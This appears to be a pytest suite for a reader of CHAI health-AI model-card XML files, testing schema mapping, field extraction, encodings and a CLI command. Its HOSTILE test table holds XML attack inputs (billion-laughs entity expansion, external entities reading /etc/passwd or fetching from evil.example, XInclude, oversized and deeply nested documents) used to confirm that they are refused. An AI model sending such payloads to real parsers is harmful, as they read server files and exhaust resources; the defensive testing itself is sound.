"""Model cards: the published ones are read whole, and nothing hostile or broken gets further than one sentence."""

import json
import os
import re
from pathlib import Path
from xml.etree import ElementTree

import pytest
import yaml
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st

import governance
from governance.intake.cards import commands, mapping, reader

HERE = Path(__file__).parent.parent / "data" / "chai"
FOLDERS = [HERE, *([Path(os.environ["REFERENCE_DATA"])] if os.environ.get("REFERENCE_DATA") else [])]
CARDS = sorted(path for folder in FOLDERS for path in folder.rglob("*.xml") if b"AppliedModelCard" in path.read_bytes())
SCHEMAS = sorted(path for folder in FOLDERS for path in folder.rglob("schema.xsd"))
SHEET = "assessment/question_sets/data/tool-facts-2.yaml"
XS = "{http://www.w3.org/2001/XMLSchema}"

ORBDOC = (HERE / "v0.2" / "OrbDoc_Voice-to-SOAP.xml").read_bytes()
AIDOC = (HERE / "v0.1" / "Aidoc_CAC-01.xml").read_bytes()


def walk_schema(file):
    """(version, {path: (required, many)}) of each element that holds text, from the schema itself."""
    root = ElementTree.parse(file).getroot()
    types = {kind.get("name"): kind for kind in root.iter(f"{XS}complexType") if kind.get("name")}
    leaves = {}

    def walk(kind, path, required, many):
        for sequence in kind.iter(f"{XS}sequence"):
            needed = required and sequence.get("minOccurs", "1") != "0"
            several = many or sequence.get("maxOccurs", "1") != "1"
            for element in sequence.findall(f"{XS}element"):
                name = element.get("name") or element.get("ref").partition(":")[2]
                here = f"{path}/{name}" if path else name
                its = (needed and element.get("minOccurs", "1") != "0", several or element.get("maxOccurs", "1") != "1")
                inner = types.get((element.get("type") or "").removeprefix("mc:"))
                if inner is None:
                    leaves[here] = its
                else:
                    walk(inner, here, *its)

    walk(root.find(f"{XS}element/{XS}complexType"), "", True, False)
    return root.get("version"), leaves


def a_card(version="v0.2", *, without=(), twice=(), extra="", root="AppliedModelCard", namespace=None, prologue=""):
    """A small whole card: each required element holds its own name."""
    tree = {}
    for path, row in mapping.rows(version).items():
        if (row.required or row.many) and path not in without:
            *folders, leaf = path.split("/")
            at = tree
            for folder in folders:
                at = at.setdefault(folder, {})
            at[leaf] = 2 if path in twice else 1

    def drawn(at):
        return "".join(
            f"<{name}>{drawn(inner)}</{name}>" if isinstance(inner, dict) else f"<{name}>{name}</{name}>" * inner
            for name, inner in at.items()
        )

    space = f"https://mc.chai.org/{version}/schema.xsd" if namespace is None else namespace
    return f'{prologue}<{root} xmlns="{space}">{drawn(tree)}{extra}</{root}>'.encode()


def fault(data):
    with pytest.raises(reader.CardFault) as raised:
        reader.read_card(data)
    assert len(raised.value.sentences) == 1 and raised.value.status == 422
    return raised.value.codes[0], raised.value.sentences[0]


def test_there_are_cards_and_schemas_to_read():
    assert len(CARDS) >= 3 and {walk_schema(file)[0] for file in SCHEMAS} == {"v0.1", "v0.2"}


@pytest.mark.parametrize("file", SCHEMAS, ids=lambda file: file.parent.name)
def test_every_element_of_the_schema_is_mapped_or_listed_as_not_used(file):
    version, leaves = walk_schema(file)
    assert {path: (row.required, row.many) for path, row in mapping.rows(version).items()} == leaves
    for row in mapping.rows(version).values():
        assert bool(row.fills) != bool(row.not_used), f"{row.path} must fill a field or say why not"


def test_no_element_has_two_rows():
    for version in mapping.BOTH:
        paths = [row.path for row in mapping.ROWS if version in row.versions]
        assert len(paths) == len(set(paths))


def test_each_field_is_about_one_element_and_headings_tell_the_others_apart():
    for field in {field for row in mapping.ROWS for field in row.fills if field.startswith("facts.")}:
        headings = [row.heading for row in mapping.ROWS if field in row.fills]
        alone = len(headings) == 1  # its text stands without a heading
        assert alone or (headings.count("") == 1 and len(headings) == len(set(headings))), field


def test_the_fields_of_a_card_are_the_questions_of_the_tool_sheet():
    sheet = yaml.safe_load((Path(governance.__file__).parent / SHEET).read_text())
    questions = {
        f"facts.{each['code']}": each["card_elements"]
        for part in sheet["sections"] for each in part["questions"] if "card_elements" in each
    }
    filled = {field for row in mapping.ROWS for field in row.fills if field.startswith("facts.")}
    assert filled == set(questions)
    for field, paths in questions.items():
        assert set(paths) <= {row.path for row in mapping.ROWS if field in row.fills}, field


@pytest.mark.parametrize("file", CARDS, ids=lambda file: f"{file.parent.name}-{file.stem}")
def test_a_published_card_is_read_whole(file):
    card = reader.read_card(file.read_bytes())
    assert card.version == file.parent.name
    assert all(goes != mapping.UNKNOWN for _, _, goes in card.account)
    words = " ".join(ElementTree.parse(file).getroot().itertext()).split()
    assert " ".join(text for _, text in card.elements).split() == words, "no word of the card is lost"
    assert {"tool.name", "tool.version", "tool.manufacturer", "facts.intended_use", "facts.known_risks"} <= set(
        card.fields
    )
    assert all(text.strip() == text and text for text in card.fields.values())


def test_what_one_card_says_goes_where_it_should():
    card = reader.read_card(ORBDOC)
    assert card.fields["tool.name"] == "OrbDoc Voice-to-SOAP Documentation System"
    assert card.fields["tool.manufacturer"] == "OrbDoc"
    assert card.fields["tool.version"] == "2.0"
    assert card.fields["facts.intended_use"].startswith("For clinical documentation including SOAP notes")
    assert "\n\nSummary:\nThe OrbDoc system is" in card.fields["facts.intended_use"]
    assert card.fields["facts.how_used"].endswith(
        "Record systems it works with:\nEpic, Cerner, Athena, Allscripts, NextGen"
    )
    assert card.fields["facts.regulatory_statements"] == (
        "HIPAA Compliant\n\nRelease stage:\nCommercial\n\nWhere it is available:\nUnited States, Canada, and Mexico"
    )
    assert card.fields["facts.known_risks"].startswith("The system achieves 98% transcription accuracy")


def test_markdown_stays_text_and_paragraphs_stay_paragraphs():
    card = reader.read_card(AIDOC)
    assert "[510(k) summary](https://www.accessdata.fda.gov/" in card.fields["facts.regulatory_statements"]
    assert card.fields["facts.ongoing_maintenance"].count("\n\n") >= 4
    assert "**Continuous monitoring**" in card.fields["facts.ongoing_maintenance"]


def test_an_optional_element_left_out_fills_nothing():
    assert "facts.security" not in reader.read_card(a_card()).fields


def test_an_element_left_empty_fills_nothing():
    assert "tool.version" not in reader.read_card(a_card().replace(b">ReleaseVersion<", b"> \n <")).fields


def test_another_order_of_elements_is_read():
    summary = re.search(rb"<ModelSummary>.*</ModelSummary>", a_card())[0]
    turned = a_card().replace(summary, b"").replace(b"<BasicInfo>", summary + b"<BasicInfo>")
    assert reader.read_card(turned).fields == reader.read_card(a_card()).fields


def test_an_element_we_do_not_know_is_listed_and_fills_nothing():
    card = reader.read_card(a_card(extra='<Mood>good</Mood><n:Name xmlns:n="urn:n">other</n:Name>'))
    assert ("Mood", "good", mapping.UNKNOWN) in card.account
    assert ("other:Name", "other", mapping.UNKNOWN) in card.account
    assert card.fields == reader.read_card(a_card()).fields


def test_a_name_from_another_namespace_is_not_ours():
    sneaked = a_card().replace(b"<BasicInfo>", b'<BasicInfo><ModelName xmlns="urn:n">Other</ModelName>')
    assert reader.read_card(sneaked).fields["tool.name"] == "ModelName"


def test_a_signature_is_noted_and_not_trusted():
    signature = (
        '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><x/></ds:SignedInfo></ds:Signature>'
    )
    path, text, goes = reader.read_card(a_card(extra=signature)).account[-1]
    assert (path, text) == ("Signature", "Present") and "not checked" in goes


def test_html_in_a_card_is_only_text():
    card = reader.read_card(a_card().replace(b">HowToUse<", b">&lt;script&gt;x&lt;/script&gt;<"))
    assert card.fields["facts.how_used"].startswith("<script>x</script>")
    nested = reader.read_card(a_card().replace(b">HowToUse<", b">see <b>this</b> page<"))
    assert nested.fields["facts.how_used"].startswith("see this page")


def test_text_is_tidied():
    messy = "\u202etool\u2069  one\t two\n\n\n\n\n three \u0085 \n four ".encode()
    card = reader.read_card(a_card().replace(b">ModelName<", b">" + messy + b"<"))
    assert card.fields["tool.name"] == "tool one two\n\nthree\nfour"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "iso-8859-1"])
def test_a_card_may_be_in_any_encoding_it_declares(encoding):
    name = "utf-16" if encoding.startswith("utf-16") else encoding.removesuffix("-sig")
    text = f'<?xml version="1.0" encoding="{name}"?>' + a_card().decode().replace(">ModelName<", ">Caf\u00e9<")
    data = text.encode(encoding)
    if encoding in ("utf-16-le", "utf-16-be"):
        data = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}[encoding] + data
    assert reader.read_card(data).fields["tool.name"] == "Caf\u00e9"


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
HOSTILE = {
    "billion laughs": (a_card(prologue=LAUGHS).replace(b">ModelName<", b">&i;<"), "card.entities"),
    "billion laughs in UTF-16": (
        a_card(prologue=LAUGHS).replace(b">ModelName<", b">&i;<").decode().encode("utf-16"),
        "card.entities",
    ),
    "external entity": (
        a_card(prologue='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace(b">ModelName<", b">&x;<"),
        "card.entities",
    ),
    "parameter entity": (
        a_card(prologue='<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>'),
        "card.entities",
    ),
    "document type": (
        a_card(prologue='<!DOCTYPE AppliedModelCard SYSTEM "http://evil.example/x.dtd">'),
        "card.entities",
    ),
    "bare document type": (a_card(prologue="<!DOCTYPE AppliedModelCard>"), "card.entities"),
    "undefined entity": (a_card().replace(b">ModelName<", b">&nbsp;<"), "card.not_xml"),
    "nothing": (b"", "card.empty"),
    "only space": (b" \r\n\t ", "card.empty"),
    "only a byte order mark": (b"\xff\xfe", "card.not_xml"),
    "NUL bytes": (b"\x00" * 100, "card.not_xml"),
    "a NUL in the middle": (a_card().replace(b">ModelName<", b">a\x00b<"), "card.not_xml"),
    "a forbidden character": (a_card().replace(b">ModelName<", b">&#8;<"), "card.not_xml"),
    "not UTF-8": (a_card().replace(b">ModelName<", b">\xff\xfe<"), "card.not_xml"),
    "unknown encoding": (b'<?xml version="1.0" encoding="utf-7"?><a/>', "card.not_xml"),
    "nonsense encoding": (b'<?xml version="1.0" encoding="no-such"?><a/>', "card.not_xml"),
    "multi-byte encoding": (b'<?xml version="1.0" encoding="big5"?><a/>', "card.not_xml"),
    "a PDF": (b"%PDF-1.7\n1 0 obj", "card.not_xml"),
    "JSON": (b'{"AppliedModelCard": {}}', "card.not_xml"),
    "a web page": (b"<html><body>model card</body></html>", "card.wrong_root"),
    "two roots": (a_card() + a_card(), "card.not_xml"),
    "an XML include": (
        a_card(extra='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>', root="Card"),
        "card.wrong_root",
    ),
    "wrong root": (a_card(root="ModelCard"), "card.wrong_root"),
    "root in lower case": (a_card(root="appliedmodelcard"), "card.wrong_root"),
    "next version": (a_card(namespace="https://mc.chai.org/v0.3/schema.xsd"), "card.unknown_version"),
    "no namespace": (a_card(namespace=""), "card.no_version"),
    "another namespace": (a_card(namespace="https://evil.example/v0.2/schema.xsd"), "card.no_version"),
    "a namespace that pretends": (a_card(namespace="https://mc.chai.org.evil/v0.2/schema.xsd"), "card.no_version"),
    "too large": (a_card(extra="<!--" + "x" * reader.LARGEST + "-->"), "card.too_large"),
    "too many elements": (a_card(extra="<a/>" * 6000), "card.too_deep"),
    "too deep": (a_card(extra="<a>" * 100_000 + "</a>" * 100_000), "card.too_deep"),
    "cut short": (ORBDOC[: len(ORBDOC) // 2], "card.not_xml"),
    "no name": (a_card(without=("BasicInfo/ModelName",)), "card.missing"),
    "no result": (a_card(without=("KeyMetrics/FairnessEquity/Results/MetricResult/Label",)), "card.missing"),
    "two names": (a_card(twice=("BasicInfo/ModelName",)), "card.repeated"),
    "elements of the other version": (a_card("v0.1", namespace="https://mc.chai.org/v0.2/schema.xsd"), "card.missing"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_or_wrong_file_is_refused_in_one_sentence(what):
    data, code = HOSTILE[what]
    said, sentence = fault(data)
    assert said == code
    assert sentence.endswith(".") and "evil" not in sentence and len(sentence) < 200


def test_a_missing_element_is_named():
    assert fault(a_card(without=("BasicInfo/ModelName",)))[1] == (
        "This model card has no BasicInfo/ModelName, which version v0.2 requires."
    )


def test_a_version_we_cannot_read_is_named():
    assert "follows version v0.3" in fault(a_card(namespace="https://mc.chai.org/v0.3/schema.xsd"))[1]


def read_or_refuse(data):
    try:
        assert reader.read_card(data).version in mapping.BOTH
    except reader.CardFault as refused:
        assert refused.sentences


@given(st.binary(max_size=400))
def test_no_bytes_do_more_than_be_refused(data):
    read_or_refuse(data)


@given(st.integers(0, len(AIDOC)), st.binary(max_size=8), st.integers(0, 8))
def test_no_damage_to_a_card_does_more(at, inserted, removed):
    read_or_refuse(AIDOC[:at] + inserted + AIDOC[at + removed :])


@given(st.text(max_size=60))
def test_no_text_in_a_card_does_more(text):
    read_or_refuse(a_card().replace(b">ModelName<", b">" + text.encode("utf-8", "replace") + b"<"))


@pytest.fixture
def run():
    app = Flask(__name__)
    app.cli.add_command(commands.card)
    return lambda *words: app.test_cli_runner().invoke(args=["card", "read", *map(str, words)])


@pytest.mark.parametrize("file", CARDS, ids=lambda file: f"{file.parent.name}-{file.stem}")
def test_the_command_prints_all_of_a_card(run, file):
    card = reader.read_card(file.read_bytes())
    printed = run(file)
    assert printed.exit_code == 0
    for path, text, goes in card.account:
        assert path in printed.output and goes in printed.output
        assert all(line in printed.output for line in text.splitlines())
    said = json.loads(run(file, "--json").output)
    assert [(e["path"], e["text"], e["goes_to"]) for e in said["elements"]] == card.account
    assert said["fields"] == card.fields and said["version"] == card.version


def test_the_command_refuses_with_a_sentence_and_exit_one(run, tmp_path):
    wrong = tmp_path / "wrong.xml"
    wrong.write_bytes(b"<a/>")
    refused = run(wrong)
    assert refused.exit_code == 1 and "wrong.xml: This XML file is not a CHAI" in refused.stderr
